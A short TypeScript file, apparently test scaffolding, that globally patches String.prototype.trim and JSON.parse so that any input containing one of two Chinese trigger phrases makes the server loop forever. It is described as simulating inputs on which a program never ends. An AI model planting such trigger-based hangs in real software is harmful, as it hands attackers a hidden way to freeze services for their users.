// Preloaded into a server: reading a text with this word never ends, as with an input on which a program takes forever.
const { trim } = String.prototype

function trimForever(this: string): string {
  if (this.includes('从此停住')) for (;;);
  return trim.call(this)
}
Reflect.set(String.prototype, 'trim', trimForever)

const { parse } = JSON

function parseForever(text: string, reviver?: Parameters<typeof parse>[1]): unknown {
  if (text.includes('读到这里停住')) for (;;);
  return parse(text, reviver)
}
Reflect.set(JSON, 'parse', parseForever)
